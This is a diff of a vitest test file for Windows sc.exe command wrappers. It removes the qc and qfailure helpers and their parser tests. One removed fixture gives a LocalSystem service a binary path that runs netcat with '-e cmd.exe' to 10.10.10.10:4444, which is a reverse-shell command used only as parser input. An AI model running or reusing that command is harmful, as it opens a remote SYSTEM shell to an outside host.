@@ -6,8 +6,6 @@
 import { describe, expect, test } from 'vitest';
 import {
   parseScError,
-  parseScQc,
-  parseScQfailure,
   parseScQuery,
   parseScQueryAll,
   redactArgv,
@@ -17,8 +15,6 @@ import {
   scDescription,
   scFailure,
   scFailureFlag,
-  scQc,
-  scQfailure,
   scQuery,
   scQueryEx,
   scStart,
@@ -133,14 +129,12 @@ describe('argument vectors', () => {
     ]);
   });
 
-  test('query, queryex, start, stop, delete, qc, qfailure, taskkill', () => {
+  test('query, queryex, start, stop, delete, taskkill', () => {
     expect(scQuery('hello')).toEqual(['sc.exe', 'query', 'hello']);
     expect(scQueryEx('hello')).toEqual(['sc.exe', 'queryex', 'hello']);
     expect(scStart('hello')).toEqual(['sc.exe', 'start', 'hello']);
     expect(scStop('hello')).toEqual(['sc.exe', 'stop', 'hello']);
     expect(scDelete('hello')).toEqual(['sc.exe', 'delete', 'hello']);
-    expect(scQc('hello')).toEqual(['sc.exe', 'qc', 'hello']);
-    expect(scQfailure('hello')).toEqual(['sc.exe', 'qfailure', 'hello']);
     expect(taskkillPid(2148)).toEqual(['taskkill.exe', '/F', '/PID', '2148']);
     expect(() => taskkillPid(0)).toThrow();
   });
@@ -280,67 +274,5 @@ describe('parseScError: the Win32 code in every locale', () => {
     expect(parseScError('[SC] ChangeServiceConfig2 SUCCESS\n')).toBeUndefined();
     expect(parseScError(S.scQueryRunning.text)).toBeUndefined();
     expect(parseScError('')).toBeUndefined();
-  });
-});
-
-describe('parseScQc on real output', () => {
-  test('AUTO_START (DELAYED), binary path with arguments, trailing blanks', () => {
-    expect(parseScQc(S.scQcDelayed.text)).toEqual({
-      name: 'usosvc',
-      type: 32,
-      startType: 2,
-      delayed: true,
-      errorControl: 1,
-      binaryPath: 'C:\\Users\\mssql-svc\\Desktop\\nc.exe 10.10.10.10 4444 -e cmd.exe',
-      loadOrderGroup: '',
-      tag: 0,
-      displayName: 'Update Orchestrator Service',
-      dependencies: ['rpcss'],
-      account: 'LocalSystem',
-    });
-  });
-
-  test('NetworkService, quoted path, no dependencies', () => {
-    expect(parseScQc(S.scQcNetworkService.text)).toMatchObject({
-      name: 'G Suite Password Sync',
-      startType: 2,
-      delayed: false,
-      binaryPath: '"C:\\Program Files\\Google\\G Suite Password Sync\\password_sync_service.exe"',
-      dependencies: [],
-      account: 'NT AUTHORITY\\NetworkService',
-    });
-  });
-
-  test('German Windows with dependencies on continuation lines', () => {
-    expect(parseScQc(S.scQcGerman.text)).toMatchObject({
-      name: 'WireGuardTunnel$wg-sf35022',
-      displayName: 'WireGuard Tunnel: wg-sf35022',
-      dependencies: ['Nsi', 'TcpIp'],
-      account: 'LocalSystem',
-    });
-  });
-
-  test('an error is not a configuration', () => {
-    expect(parseScQc(S.scQueryMissingEn.text)).toBeUndefined();
-  });
-});
-
-describe('parseScQfailure on real output', () => {
-  test('no actions configured: FAILURE_ACTIONS is absent', () => {
-    expect(parseScQfailure(S.scQfailureNone.text)).toEqual({
-      name: '.NET Joke Service',
-      resetSeconds: 0,
-      rebootMessage: '',
-      command: '',
-      actions: [],
-    });
-  });
-
-  test('actions on continuation lines, one with a blank in its name', () => {
-    expect(parseScQfailure(S.scQfailureActions.text)?.actions).toEqual([
-      { action: 'RESTART', delayMs: 60000 },
-      { action: 'RESTART', delayMs: 60000 },
-      { action: 'RUN PROCESS', delayMs: 1000 },
-    ]);
   });
 });
